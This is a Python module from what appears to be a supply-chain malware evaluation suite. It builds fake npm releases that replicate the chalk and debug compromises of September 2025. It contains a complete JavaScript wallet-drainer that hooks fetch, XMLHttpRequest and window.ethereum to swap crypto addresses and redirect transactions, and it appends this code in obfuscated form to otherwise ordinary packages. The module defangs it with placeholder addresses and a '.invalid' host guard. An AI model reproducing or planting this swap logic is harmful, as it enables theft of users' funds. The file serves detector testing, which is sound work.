"""Code in the package itself that waits in browsers for payments and changes where they go.

The addresses have the right shape and belong to nobody: they repeat a pattern. The code acts only on pages whose host
ends in `.invalid`, of which there are none.
"""

from dataclasses import replace

from evals.replicas.ordinary.npm import debug_log, terminal_colours
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript import minified
from evals.replicas.rewriting.javascript_strings import string_array

_FAMILY = "wallet-swap"
_REASONS = ("wallet-address-swapped", "obfuscated-code")

_ETHEREUM = [f"0x{str(digit) * 4}{'abcdef0123456789' * 2}{str(digit) * 4}" for digit in range(1, 9)]
_BITCOIN = [f"1Repca{letter * 4}ReplicaReplicaRep{letter * 4}xx" for letter in "abcdefgh"]
_SEGWIT = [f"bc1qreplica{letter * 8}0000000000000000000{letter * 4}" for letter in "acdefghj"]
_SOLANA = [f"Rep{letter * 6}icaRepicaRepicaRepicaRepicaRe{letter * 5}" for letter in "abcdefgh"]

_SWAP = """\
var neth = 0;
var rund = 0;

const ETHEREUM = [%s];
const BITCOIN = [%s];
const SEGWIT = [%s];
const SOLANA = [%s];

const PATTERNS = {
  ethereum: /\\b0x[a-fA-F0-9]{40}\\b/g,
  bitcoinLegacy: /\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g,
  bitcoinSegwit: /\\b(3[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71})\\b/g,
  solana: /\\b[1-9A-HJ-NP-Za-km-z]{32,44}\\b/g,
};

function distance(a, b) {
  const rows = Array.from(Array(a.length + 1), (unused, index) => [index]);
  for (let column = 0; column <= b.length; column += 1) rows[0][column] = column;
  for (let i = 1; i <= a.length; i += 1) {
    for (let j = 1; j <= b.length; j += 1) {
      rows[i][j] = a[i - 1] === b[j - 1] ? rows[i - 1][j - 1] : 1 + Math.min(rows[i - 1][j], rows[i][j - 1], rows[i - 1][j - 1]);
    }
  }
  return rows[a.length][b.length];
}

function nearest(address, list) {
  let best = list[0];
  let least = Infinity;
  for (const candidate of list) {
    const away = distance(address.toLowerCase(), candidate.toLowerCase());
    if (away < least) {
      least = away;
      best = candidate;
    }
  }
  return best;
}

function exchange(text) {
  return text
    .replace(PATTERNS.ethereum, (found) => (ETHEREUM.includes(found) ? found : nearest(found, ETHEREUM)))
    .replace(PATTERNS.bitcoinLegacy, (found) => nearest(found, BITCOIN))
    .replace(PATTERNS.bitcoinSegwit, (found) => nearest(found, SEGWIT))
    .replace(PATTERNS.solana, (found) => nearest(found, SOLANA));
}

function hookNetwork() {
  const original = window.fetch;
  window.fetch = async function (...args) {
    const response = await original.apply(this, args);
    const kind = response.headers.get('Content-Type') || '';
    const text = kind.includes('json') ? JSON.stringify(await response.clone().json()) : await response.clone().text();
    const changed = exchange(text);
    return new Response(changed, { status: response.status, statusText: response.statusText, headers: response.headers });
  };
  const open = XMLHttpRequest.prototype.open;
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url, async, user, password) {
    this._url = url;
    return open.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    const request = this;
    const ready = request.onreadystatechange;
    request.onreadystatechange = function () {
      if (request.readyState === 4) {
        const changed = exchange(request.responseText);
        Object.defineProperty(request, 'responseText', { value: changed });
      }
      if (ready) ready.apply(this, arguments);
    };
    return send.apply(this, arguments);
  };
}

function hookWallet() {
  const wallet = window.ethereum;
  const request = wallet.request;
  wallet.request = async function (call) {
    if (call.method === 'eth_sendTransaction' && call.params && call.params[0]) {
      const transaction = call.params[0];
      if (transaction.data && transaction.data.startsWith('0x095ea7b3')) {
        transaction.data = transaction.data.substring(0, 10) + ETHEREUM[0].slice(2).padStart(64, '0') + 'f'.repeat(64);
      } else if (transaction.data && transaction.data.startsWith('0xa9059cbb')) {
        transaction.data = transaction.data.substring(0, 10) + ETHEREUM[0].slice(2).padStart(64, '0') + transaction.data.substring(74);
      } else {
        transaction.to = ETHEREUM[0];
      }
    }
    return request.call(this, call);
  };
}

async function checkWallet() {
  try {
    const accounts = await window.ethereum.request({ method: 'eth_accounts' });
    if (accounts.length > 0) {
      if (rund !== 1) {
        rund = 1;
        hookWallet();
      }
    } else if (rund !== 1) {
      rund = 1;
      hookNetwork();
    }
  } catch (error) {
    if (rund !== 1) {
      rund = 1;
      hookNetwork();
    }
  }
}

function concerned() {
  return typeof window !== 'undefined' && window.location.hostname.endsWith('.invalid');
}

if (concerned() && typeof window.ethereum !== 'undefined') {
  checkWallet();
} else if (concerned()) {
  hookNetwork();
}
""" % tuple(", ".join(f"'{one}'" for one in each) for each in (_ETHEREUM, _BITCOIN, _SEGWIT, _SOLANA))  # noqa: UP031 - braces of the program

_COLOURS = terminal_colours("larkhue")
_COLOUR_BEFORE = ReleaseSpec(
    version="5.6.0",
    published=at("2025-08-17 12:00"),
    files=_COLOURS,
    manifest={"main": "source/index.js", "license": "MIT", "scripts": {"test": "node test/strip.js"}},
    publisher=("qixl", "qixl@larkhue.test"),
)
_COLOUR_AFTER = replace(
    _COLOUR_BEFORE,
    version="5.6.1",
    published=at("2025-09-08 13:16"),
    files={**_COLOURS, "source/index.js": _COLOURS["source/index.js"] + "\n" + minified(string_array(_SWAP) or "")},
    payload=("source/index.js",),
    plain={"source/index.js": _COLOURS["source/index.js"] + "\n" + _SWAP},
)
_LOG = debug_log("larklog")
_LOG_BEFORE = ReleaseSpec(
    version="4.4.1",
    published=at("2025-05-13 12:00"),
    files=_LOG,
    manifest={"main": "src/index.js", "browser": "src/browser.js", "license": "MIT", "dependencies": {}},
    publisher=("qixl", "qixl@larkhue.test"),
)
_LOG_AFTER = replace(
    _LOG_BEFORE,
    version="4.4.2",
    published=at("2025-09-08 13:16"),
    files={**_LOG, "src/index.js": _LOG["src/index.js"] + "\n" + _SWAP},
    payload=("src/index.js",),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="chalk",
        incident="chalk 5.6.1 (2025-09-08)",
        family=_FAMILY,
        ecosystem="npm",
        name="larkhue",
        before=_COLOUR_BEFORE,
        after=_COLOUR_AFTER,
        others=(replace(_LOG_BEFORE, name="larklog"), replace(_LOG_AFTER, name="larklog")),
        reasons=_REASONS,
    ),
    Replica(
        id="debug",
        incident="debug 4.4.2 (2025-09-08)",
        family=_FAMILY,
        ecosystem="npm",
        name="larklog",
        before=_LOG_BEFORE,
        after=_LOG_AFTER,
        reasons=_REASONS,
    ),
)
